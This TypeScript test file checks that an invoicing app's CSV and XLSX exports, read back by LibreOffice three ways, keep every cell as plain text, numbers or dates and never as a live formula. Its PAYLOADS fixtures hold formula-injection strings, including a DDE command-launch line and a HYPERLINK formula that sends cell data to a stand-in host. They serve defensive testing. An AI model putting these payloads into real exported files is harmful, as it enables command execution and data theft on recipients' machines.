// Issue 15: everything Kontor hands out reads back in a spreadsheet exactly as it is in the
// book. A generated book — every identifier kind (invoice numbers, QR and creditor references,
// IBANs, VAT numbers and UIDs, phone numbers, postal codes), accented and emoji names,
// amounts from 0.05 to 1,000,000.00, credit notes, 29 February — and the formula matrix
// (OWASP payloads, full-width forms, leading blanks and NBSP, multi-line, separators inside)
// brought in through the organizations import, exported in every CSV profile and as XLSX,
// then opened by LibreOffice three ways (test/helpers/libreoffice.ts: the project's filter
// options, the import dialog's defaults for the profile's locale, a plain --convert-to).
// Every cell must equal the store: text as text, amounts as numbers, dates as dates; no cell
// may be a formula. LibreOffice runs are batched: one per reader and filter, many files each.
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { CSV_PROFILES, type CsvProfileId } from '#core/export/csv/csv-writer';
import { neutraliseText } from '#core/export/csv/formula-guard';
import { INVOICE_COLUMNS } from '#core/services/exports.service';
import { CH_QR_IBAN, line, setUpProvider, TAX_IDS } from '../helpers/invoices';
import { type TestKontor, useTempSpace } from '../helpers/kontor';
import { type CsvReader, type OdsCell, readerFilter, readTypedWithLibreOffice } from '../helpers/libreoffice';

const space = useTempSpace('kontor-three-readers-');
const PROFILES = Object.keys(CSV_PROFILES) as CsvProfileId[];

/** Names a spreadsheet must show exactly as they are: legitimate values, never touched. */
const LEGIT = [
  { name: 'Zoë Müller Sàrl', country: 'CH', uid: 'CHE-123.456.788', postal: '1003', city: 'Lausanne' },
  {
    name: 'Łukasz Żółć 🧾 Café',
    country: 'FR',
    vat: TAX_IDS.frVat,
    postal: '01000',
    city: 'Bourg-en-Bresse',
  },
  { name: '2+2 Consulting', country: 'DE', vat: TAX_IDS.deVat, postal: '01067', city: 'Dresden' },
  { name: '+41 21 555 55 55', country: 'CH', postal: '8001', city: 'Zürich' },
  { name: 'jean.dupont+factures@example.ch', country: 'CH', postal: '1201', city: 'Genève' },
  { name: 'Dupont; Fils & Cie, "Succ."', country: 'CH', postal: '2000', city: 'Neuchâtel' },
];

/** OWASP's payloads and their disguises: none may evaluate, under any reader. */
const PAYLOADS = [
  '=1+1',
  '+A1',
  '-1+2',
  '@SUM(1,2)',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+cmd|" /C calc"!A0',
  '＝1+1',
  '＋A1',
  '=1+1;=2+2,=3+3',
  'Acme,=1+1',
  'Acme;=1+1',
  'Acme, -2+3',
];
/**
 * Multi-line payloads and leading blanks: not through the CSV import (it trims cells and keeps
 * names on one line), through the API.
 */
const MULTILINE = ['Acme SA\n=1+1', 'Zeile 1\r\n@SUM(1)', '  =1+2', '\u00a0=1+3', '\u3000@SUM(1)'];

interface Expected {
  number: string;
  cells: Record<string, { type: 'text' | 'money' | 'date'; value: string | number | null }>;
}

let k: TestKontor;
let expected: Expected[];
const files: Record<string, string> = {};

function expectedRows(): Expected[] {
  // The book as the store holds it, in the export's order (issued_on, id), each column's
  // value computed here from the store's own fields, not from the export code.
  const rows = k.raw
    .prepare(
      `SELECT i.*, o.name AS org_name, o.country AS org_country, coalesce(o.vat_number, o.uid, '') AS tax_id,
              (SELECT c.number FROM invoices c WHERE c.id = i.corrects_invoice_id) AS corrects
         FROM invoices i JOIN organizations o ON o.id = i.organization_id
        WHERE i.deleted_at IS NULL ORDER BY i.issued_on, i.id`,
    )
    .all() as Record<string, unknown>[];
  const today = '2026-03-15';
  return rows.map((r) => {
    const sign = r.kind === 'credit_note' ? -1 : 1;
    const billTo = JSON.parse(String(r.bill_to)) as { postalCode: string; city: string };
    const issuer = JSON.parse(String(r.issuer)) as { iban: string | null };
    const overdue =
      r.kind === 'invoice' &&
      ['unpaid', 'partially_paid'].includes(String(r.status)) &&
      String(r.due_on) < today;
    const reference = String(r.payment_reference ?? '');
    const grouped =
      r.reference_type === 'QRR'
        ? reference.replace(/^(\d{2})(\d{5})(\d{5})(\d{5})(\d{5})(\d{5})$/, '$1 $2 $3 $4 $5 $6')
        : reference.replace(/(.{4})(?=.)/g, '$1 ');
    const gross = Number(r.gross_minor);
    const paid = Number(r.paid_minor);
    return {
      number: String(r.number),
      cells: {
        number: { type: 'text', value: String(r.number) },
        kind: { type: 'text', value: String(r.kind) },
        status: { type: 'text', value: overdue ? `${r.status} (overdue)` : String(r.status) },
        issuedOn: { type: 'date', value: String(r.issued_on) },
        dueOn: { type: 'date', value: r.due_on ? String(r.due_on) : null },
        organization: { type: 'text', value: String(r.org_name) },
        country: { type: 'text', value: String(r.org_country) },
        vatNumber: { type: 'text', value: String(r.tax_id) },
        currency: { type: 'text', value: String(r.currency) },
        net: { type: 'money', value: sign * Number(r.net_minor) },
        vat: { type: 'money', value: sign * Number(r.vat_minor) },
        gross: { type: 'money', value: sign * gross },
        paid: { type: 'money', value: r.kind === 'credit_note' ? 0 : paid },
        due: {
          type: 'money',
          value:
            r.kind === 'invoice' && r.status !== 'cancelled' && r.status !== 'refunded'
              ? Math.max(0, gross - paid)
              : 0,
        },
        reference: { type: 'text', value: grouped },
        corrects: { type: 'text', value: String(r.corrects ?? '') },
        locality: { type: 'text', value: `${billTo.postalCode} ${billTo.city}` },
        payTo: { type: 'text', value: (issuer.iban ?? '').replace(/(.{4})(?=.)/g, '$1 ') },
      },
    } satisfies Expected;
  });
}

async function buildBook(): Promise<void> {
  k = space.kontor({ now: '2024-02-29T10:00:00.000Z' });
  const provider = await setUpProvider(k, { name: 'Hébergeur Suisse SA', iban: CH_QR_IBAN });
  // The second issuer is paid on a German account: no QR-bill (a Swiss or Liechtenstein IBAN
  // only), so it can bill the payers whose names a QR-bill cannot carry (an emoji, full-width
  // forms, line breaks); its references are SCOR. (Without any account it may not issue at all.)
  const other = await k.ok('organizations.create', {
    kind: 'company',
    name: 'Émetteur Deux SA',
    country: 'CH',
    currency: 'CHF',
    uid: 'CHE-109.322.551',
    iban: 'DE89 3704 0044 0532 0130 00',
  });
  await k.ok('addresses.create', {
    organizationId: other.id,
    label: 'Siège',
    recipient: 'Émetteur Deux SA',
    line1: 'Rue 1',
    postalCode: '1950',
    city: 'Sion',
    country: 'CH',
  });
  // Payers come in through the organizations import, as an accountant would bring them.
  const header = 'Name;Kind;Country;Currency;VAT number;UID;SIREN';
  const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const lines = [
    ...LEGIT.map((p) =>
      [
        p.name,
        'company',
        p.country,
        p.country === 'CH' ? 'CHF' : 'EUR',
        p.vat ?? '',
        p.uid ?? '',
        // A French company's SIREN is its VAT number without FR and the key.
        p.country === 'FR' ? (p.vat ?? '').slice(4) : '',
      ]
        .map(quote)
        .join(';'),
    ),
    ...PAYLOADS.map((name) => [name, 'company', 'CH', 'CHF', '', '', ''].map(quote).join(';')),
  ];
  const csv = path.join(space.dir(), 'payers.csv');
  fs.writeFileSync(csv, `${header}\r\n${lines.join('\r\n')}\r\n`);
  const report = await k.ok('imports.run', {
    kind: 'organizations',
    contentBase64: fs.readFileSync(csv).toString('base64'),
    delimiter: ';',
  });
  expect(report.errors).toEqual([]);
  expect(report.imported).toBe(LEGIT.length + PAYLOADS.length);
  for (const name of MULTILINE) {
    await k.ok('organizations.create', { kind: 'company', name, country: 'CH', currency: 'CHF' });
  }
  const orgs = await k.ok('organizations.list', {});
  const payers = orgs.filter((o) => o.id !== provider && o.id !== other.id);
  for (const payer of payers) {
    const legit = LEGIT.find((l) => l.name === payer.name);
    await k.ok('addresses.create', {
      organizationId: payer.id,
      label: 'Facturation',
      recipient: payer.name,
      line1: 'Rue du Marché 4',
      postalCode: legit?.postal ?? '1003',
      city: legit?.city ?? 'Lausanne',
      country: payer.country,
    });
  }
  // Amounts from 0.05 to 1,000,000.00 (gross), both issuers, credit notes, 29 February.
  const amounts = [5, 99, 1_000, 12_345, 99_999, 1_000_000, 92_506_938];
  let i = 0;
  for (const payer of payers) {
    const unit = amounts[i % amounts.length] as number;
    const rate = payer.country === 'CH' ? 810 : 0;
    const draft = await k.ok('invoices.create', {
      organizationId: payer.id,
      // A QR-bill carries Latin letters only: other names go to the issuer without one.
      issuerOrganizationId:
        i % 3 === 0 || !/^[\u0020-\u007e\u00a0-\u017f]*$/.test(payer.name) ? other.id : provider,
      lines: [line(unit, { vatRateBp: unit === 92_506_938 ? rate : undefined })],
    });
    const issued = await k.ok('invoices.issue', { id: draft.id });
    if (i % 4 === 1) await k.ok('invoices.creditNote', { invoiceId: issued.id });
    if (i % 4 === 2) {
      await k.ok('payments.record', {
        invoiceId: issued.id,
        method: 'bank_transfer',
        amountMinor: Math.max(1, Math.floor(issued.grossMinor / 2)),
        currency: issued.currency,
        receivedOn: '2024-02-29',
      });
    }
    i++;
  }
  // The gross of 1,000,000.00 exactly: 925,069.38 + 8.1 % VAT.
  expect(
    k.raw.prepare('SELECT count(*) FROM invoices WHERE gross_minor = 100000000').pluck().get(),
  ).toBeGreaterThan(0);
  k.clock.set('2026-03-15T09:30:00.000Z');
}

function odsRows(cells: OdsCell[][]): OdsCell[][] {
  return cells;
}

/** One exported row read back against what the store says. */
function checkRow(
  got: OdsCell[] | undefined,
  want: Expected,
  how: string,
  options: { guarded: boolean; plain: boolean },
): string[] {
  const problems: string[] = [];
  INVOICE_COLUMNS.forEach((column, c) => {
    const cell = got?.[c] ?? { type: '', value: '', formula: null };
    const spec = want.cells[column.key];
    if (!spec) {
      problems.push(`${how}: no expectation for ${column.key}`);
      return;
    }
    const where = `${how} ${want.number} ${column.key}`;
    if (cell.formula) problems.push(`${where}: a formula ${cell.formula}`);
    if (spec.value === null || spec.value === '') {
      if (cell.value !== '')
        problems.push(`${where}: expected empty, got ${cell.type} ${JSON.stringify(cell.value)}`);
      return;
    }
    if (spec.type === 'text') {
      const text = String(spec.value);
      // A spreadsheet keeps a line break as LF, whatever the file had.
      const shown = (options.guarded ? neutraliseText(text) : text).replace(/\r\n?/g, '\n');
      // A plain conversion reads a CSV in the system's charset, which LibreOffice takes as
      // Windows-1252 here (C.UTF-8): accented text arrives re-encoded, not lost; it must still
      // be one text cell.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: ASCII is what is compared
      const reencoded = options.plain && /[^\x00-\x7f]/.test(shown);
      if (cell.type !== 'string' || (!reencoded && cell.value !== shown))
        problems.push(
          `${where}: expected text ${JSON.stringify(shown)}, got ${cell.type} ${JSON.stringify(cell.value)}`,
        );
    } else if (spec.type === 'money') {
      const number = Number(spec.value) / 100;
      if (!['float', 'currency'].includes(cell.type) || Math.abs(Number(cell.value) - number) > 1e-9)
        problems.push(
          `${where}: expected the number ${number}, got ${cell.type} ${JSON.stringify(cell.value)}`,
        );
    } else if (cell.type !== 'date' || !cell.value.startsWith(String(spec.value))) {
      problems.push(
        `${where}: expected the date ${spec.value}, got ${cell.type} ${JSON.stringify(cell.value)}`,
      );
    }
  });
  return problems;
}

describe('exports read back by LibreOffice three ways', () => {
  beforeAll(async () => {
    await buildBook();
    expected = expectedRows();
    const dir = space.dir();
    for (const profile of PROFILES) {
      files[profile] = path.join(dir, `book-${profile}.csv`);
      await k.ok('exports.invoices', {
        format: 'csv',
        profile,
        locale: 'en',
        out: files[profile],
        filters: { organizationIds: [], statuses: [], kinds: [] },
      });
    }
    files.xlsx = path.join(dir, 'book-xlsx.xlsx');
    await k.ok('exports.invoices', {
      format: 'xlsx',
      profile: 'spreadsheet',
      locale: 'en',
      out: files.xlsx,
      filters: { organizationIds: [], statuses: [], kinds: [] },
    });
  }, 300_000);

  it('the generated book has what the matrix needs', () => {
    expect(expected.length).toBe(
      LEGIT.length +
        PAYLOADS.length +
        MULTILINE.length +
        Math.ceil((LEGIT.length + PAYLOADS.length + MULTILINE.length) / 4),
    );
    expect(expected.some((e) => e.cells.kind?.value === 'credit_note' && e.cells.corrects?.value)).toBe(true);
    expect(expected.some((e) => /^\d{2}( \d{5}){5}$/.test(String(e.cells.reference?.value)))).toBe(true);
    expect(expected.some((e) => String(e.cells.reference?.value).startsWith('RF'))).toBe(true);
    expect(expected.some((e) => e.cells.locality?.value === '01000 Bourg-en-Bresse')).toBe(true);
    expect(expected.every((e) => e.cells.issuedOn?.value === '2024-02-29')).toBe(true);
  });

  it('every cell equals the store under the filter options, the dialog defaults and a plain conversion; no cell is a formula', async () => {
    const problems: string[] = [];
    const runs: { reader: CsvReader; profile: CsvProfileId | null; inputs: string[] }[] = [
      ...PROFILES.flatMap((profile) =>
        (['filter', 'dialog'] as const).map((reader) => ({
          reader,
          profile,
          inputs: [files[profile] as string],
        })),
      ),
      // A plain conversion of every file at once: comma-separated, as a double click reads it.
      {
        reader: 'plain',
        profile: null,
        inputs: [...PROFILES.map((p) => files[p] as string), files.xlsx as string],
      },
    ];
    // Two at a time: each run is its own soffice process with its own profile.
    const results: { run: (typeof runs)[number]; sheets: Map<string, OdsCell[][]> }[] = [];
    for (let r = 0; r < runs.length; r += 2) {
      const batch = runs.slice(r, r + 2);
      results.push(
        ...(await Promise.all(
          batch.map(async (run) => ({
            run,
            sheets: await readTypedWithLibreOffice(
              run.inputs,
              run.profile ? readerFilter(run.reader, run.profile) : undefined,
            ),
          })),
        )),
      );
    }
    for (const { run, sheets } of results) {
      for (const [file, cells] of sheets) {
        const rows = odsRows(cells);
        const name = path.basename(file);
        const how = `${run.reader} ${name}`;
        // No reader may ever produce a formula, whatever it did to the columns.
        for (const row of rows)
          for (const cell of row) if (cell.formula) problems.push(`${how}: formula ${cell.formula}`);
        const xlsx = file.endsWith('.xlsx');
        const profile = PROFILES.find((p) => files[p] === file);
        // A ';' file read with commas splits its rows differently: only the formulas count there.
        if (run.reader === 'plain' && profile && CSV_PROFILES[profile].delimiter !== ',') continue;
        expect(
          rows[0]?.map((c) => c.value),
          how,
        ).toEqual(INVOICE_COLUMNS.map((c) => c.header.en));
        const data = rows.slice(1, 1 + expected.length);
        expect(data.length, how).toBe(expected.length);
        expected.forEach((want, i) => {
          problems.push(
            ...checkRow(data[i], want, how, { guarded: !xlsx, plain: run.reader === 'plain' && !xlsx }),
          );
        });
      }
    }
    expect(problems).toEqual([]);
  }, 600_000);
});
